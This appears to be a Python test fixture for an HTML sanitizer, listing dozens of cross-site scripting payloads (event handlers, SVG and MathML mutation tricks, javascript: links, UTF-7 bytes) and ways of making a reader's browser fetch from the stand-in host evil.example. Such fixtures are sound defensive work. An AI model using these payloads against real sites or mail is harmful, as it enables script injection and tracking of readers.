"""What strangers put into HTML to run a script in a reader's browser, or to learn that the mail was opened.

`J` is a script that leaves a trace in the console, `U` an address whose host tells that it was asked.
"""

import base64

J = "console.log('ran')"
U = "http://t{n}.evil.example/"
HTTPS = "https://t{n}.evil.example/"
TRACE = "ran"

SCRIPTS = {
    "a script": f"<script>{J}</script>",
    "a script in odd letters": f"<ScRiPt >{J}</sCrIpT >",
    "a script within a script": f"<scr<script>ipt>{J}</scr</script>ipt><script>{J}</script>",
    "a script after a broken comment": f"<!--><script>{J}</script>-->",
    "a script after a comment that ends oddly": f"<!-- --!><script>{J}</script>",
    "a script from elsewhere": f"<script src='{U}s.js'></script>",
    "a script without an end": f"<script>{J}//",
    "a module": f"<script type=module>{J}</script>",
    "a picture that fails": f"<img src=x onerror={J}>",
    "a picture that fails, by slashes": f"<img/src=x/onerror={J}>",
    "a picture that fails, in entities": "<img src=x onerror=&#99;onsole.log&lpar;'ran'&rpar;>",
    "a picture whose name hides it": f'<img alt="`" title="` onerror={J}" src=x onerror={J}>',
    "a picture in a closed text area": f"<textarea></textarea><img src=x onerror={J}>",
    "a drawing that loads": f"<svg onload={J}></svg>",
    "a drawing with a script": f"<svg><script>{J}</script></svg>",
    "a drawing that animates a link": (
        f'<svg><a><animate attributeName=href values="javascript:{J}"/><text y=20>press</text></a></svg>'
    ),
    "a drawing that sets a handler": f"<svg><set attributeName=onmouseover to={J}><rect width=900 height=900></svg>",
    "a drawing that begins at once": f"<svg><animate onbegin={J} attributeName=x dur=1s></svg>",
    "a drawing with a foreign object": f"<svg><foreignObject><img src=x onerror={J}></foreignObject></svg>",
    "a drawing that uses another": (
        f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{J}'/>#x\"/></svg>"
    ),
    "a formula that hides HTML": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={J}&gt;'>"
        f"</style></mglyph></table></mtext></math><math><mi><img src=x onerror={J}></mi></math>"
    ),
    "a formula with a link": f"<math><maction actiontype=statusline xlink:href='javascript:{J}'>press</maction></math>",
    "HTML that changes when read twice": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={J}></style></mglyph></form>"
    ),
    "no script, that holds one": f'<noscript><p title="</noscript><img src=x onerror={J}>"></noscript>',
    "a title that holds one": f'<title><a title="</title><img src=x onerror={J}>"></title>',
    "plain text that does not end": f"<xmp><p title='</xmp><img src=x onerror={J}>'>",
    "a template": f"<template><img src=x onerror={J}></template><template shadowrootmode=open><img src=x onerror={J}>",
    "a body that loads": f"<body onload={J}>",
    "a second body": f"<p>x<body onpageshow={J}>",
    "a frame of a script": f"<iframe src='javascript:{J}'></iframe>",
    "a frame with its own text": f'<iframe srcdoc="<script>{J}</script>"></iframe>',
    "a frame of data": f"<iframe src='data:text/html,<script>{J}</script>'></iframe>",
    "an object of data": f"<object data='data:text/html,<script>{J}</script>'></object>",
    "an embedded drawing": (
        "<embed src='data:image/svg+xml;base64,"
        + base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{J}"/>'.encode()).decode()
        + "'>"
    ),
    "a video that fails": f"<video><source onerror={J}></video>",
    "a sound that fails": f"<audio src=x onerror={J}></audio>",
    "a field that takes the focus": f"<input autofocus onfocus={J}>",
    "a choice that takes the focus": f"<select autofocus onfocus={J}><option>x</select>",
    "a marquee": f"<marquee onstart={J}>x</marquee>",
    "a box that opens": f"<details open ontoggle={J}>x</details>",
    "a movement": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={J}>x</b>",
    "words that can be written in": f"<b contenteditable autofocus tabindex=1 onfocus={J}>x</b>",
    "a popover": f"<button popovertarget=x>x</button><b popover id=x onbeforetoggle={J}>x</b>",
    "a link to a script": f"<a href='javascript:{J}' style='position:fixed;inset:0'>press</a>",
    "a link to a script, by a tab": f"<a href='java&#9;script:{J}' style='position:fixed;inset:0'>press</a>",
    "a link to a script, by a control": f"<a href='&#1;javascript:{J}' style='position:fixed;inset:0'>press</a>",
    "a form that is a script": (
        f"<form action='javascript:{J}'><button style='position:fixed;inset:0;width:100%;height:100%'>press</button>"
    ),
    "a base that is a script": f"<base href='javascript:{J}//'><a href=x style='position:fixed;inset:0'>press</a>",
    "a meta that goes to a script": f"<meta http-equiv=refresh content='0;url=javascript:{J}'>",
    "a handler over everything": f"<div style='position:fixed;inset:0' onmousemove={J} onclick={J}>x</div>",
    "a name that is ours": f"<form id=document name=body><input name=cookie></form><img name=x src=x onerror={J}>",
    "bytes of another charset": f"\ufeff+ADw-script+AD4-{J}+ADw-/script+AD4-<img src=x onerror={J}>",
}
"""What would run a script."""

REQUESTS = {
    "a picture": f"<img src='{U}p.gif'>",
    "a picture without a scheme": "<img src='//t{n}.evil.example/p.gif'>",
    "a picture over TLS": f"<img src='{HTTPS}p.gif'>",
    "a picture for sharp screens": f"<img srcset='{U}p.gif 1x, {U}q.gif 2x'>",
    "a picture of several": f"<picture><source srcset='{U}p.gif'><img src=x></picture>",
    "a picture button": f"<input type=image src='{U}p.gif'>",
    "a background": f"<body background='{U}b.gif'><table background='{U}t.gif'><td background='{U}d.gif'>x</table>",
    "a background by style": f"<div style=\"background:url('{U}b.gif')\">x</div>",
    "a background in escapes": "<div style='background:\\75\\72\\6c(http://t{n}.evil.example/b.gif)'>x</div>",
    "a background that does not end": "<div style='background:url(http://t{n}.evil.example/b.gif'>x</div>",
    "a background by way of a variable": f"<div style='--x:url({U}v.gif);background:var(--x)'>x</div>",
    "a set of pictures by style": f"<div style=\"background-image:image-set('{U}i.gif' 1x)\">x</div>",
    "a cursor and a list mark": f"<ul style='list-style-image:url({U}l.gif);cursor:url({U}c.cur),auto'><li>x</ul>",
    "content by style": f"<style>b::after{{content:url({U}a.gif)}}</style><b>x</b>",
    "an imported style": f"<style>@import '{U}i.css';</style>",
    "a typeface": f"<style>@font-face{{font-family:x;src:url({U}f.woff)}}b{{font-family:x}}</style><b>x</b>",
    "a linked style": f"<link rel=stylesheet href='{U}l.css'>",
    "a hint to fetch ahead": f"<link rel=prefetch href='{U}h'><link rel=preload as=image href='{U}i.gif'>",
    "a hint to connect": f"<link rel=preconnect href='{U}'>",
    "an icon": f"<link rel=icon href='{U}i.ico'>",
    "a frame": f"<iframe src='{U}f.html'></iframe>",
    "an object": f"<object data='{U}o'></object><embed src='{U}e'>",
    "a film": f"<video src='{U}v' poster='{U}p.gif' autoplay></video>",
    "a sound": f"<audio src='{U}a' autoplay></audio>",
    "captions": f"<video controls><track default src='{U}t.vtt'></video>",
    "a drawing with a picture": f"<svg width=9 height=9><image href='{U}s.gif' width=9 height=9 /></svg>",
    "a drawing with a filter": (
        f"<svg><filter id=f><feImage href='{U}f.gif' /></filter><rect filter='url(#f)' width=9 height=9></svg>"
    ),
    "a drawing painted from elsewhere": f"<svg width=9 height=9><rect fill='url({U}p.svg#x)' width=9 height=9></svg>",
    "a base for all addresses": f"<base href='{U}'><img src=p.gif>",
    "a meta that goes elsewhere": f"<meta http-equiv=refresh content='0;url={U}'>",
    "a form": (
        f"<form action='{U}' method=post><button style='position:fixed;inset:0;width:100%;height:100%'>press</button>"
    ),
    "a link": f"<a href='{U}' style='position:fixed;inset:0'>press</a>",
    "a link for the whole window": f"<a href='{U}' target=_top style='position:fixed;inset:0'>press</a>",
    "a link that pings": f"<a href='#x' ping='{U}ping' style='position:fixed;inset:0'>press</a>",
    "a manifest": f"<link rel=manifest href='{U}m.json'>",
}
"""What would fetch something, or lead somewhere."""


def tricks() -> dict[str, str]:
    """Every trick, its addresses numbered."""
    return {name: html.replace("{n}", str(n)) for n, (name, html) in enumerate((SCRIPTS | REQUESTS).items())}
